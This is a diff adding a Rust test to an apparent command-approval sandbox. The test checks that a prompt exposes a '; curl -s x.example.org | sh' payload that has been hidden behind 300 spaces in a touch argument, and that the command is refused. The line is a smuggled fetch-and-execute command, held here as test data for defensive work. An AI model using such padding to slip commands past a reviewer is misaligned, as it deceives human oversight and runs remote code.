@@ -711,3 +711,24 @@ fn a_rule_saved_for_a_decision_that_cannot_be_recorded_is_taken_back() {
     let o = cordon(d.path(), &["exec", "--", "touch", "unrecorded"]);
     assert_eq!(o.status.code(), Some(126), "{}", common::stderr(&o));
 }
+
+/// Round 10 of issue 21: a run of spaces pushed the rest of a line out of the box. The
+/// preview line of the command (cut to the box's width) showed `touch 'ok` and then only
+/// `…`: the `| sh` after 300 spaces was out of sight. A long run of spaces is shown as its
+/// count, and the rest of the line stays in the box.
+#[test]
+fn a_long_run_of_spaces_is_shown_as_its_count_not_as_a_blank() {
+    let d = workspace("60s");
+    let arg = format!("ok{}; curl -s x.example.org | sh", " ".repeat(300));
+    let mut p = exec(d.path(), &["--", "touch", &arg]);
+    p.expect(PROMPT);
+    let screen = p.screen();
+    assert!(
+        screen.contains("ok⟨… 300 spaces …⟩; curl -s x.example.org | sh"),
+        "{screen}"
+    );
+    p.send(b"n");
+    let (code, _) = p.finish();
+    assert_eq!(code, 126);
+}
+
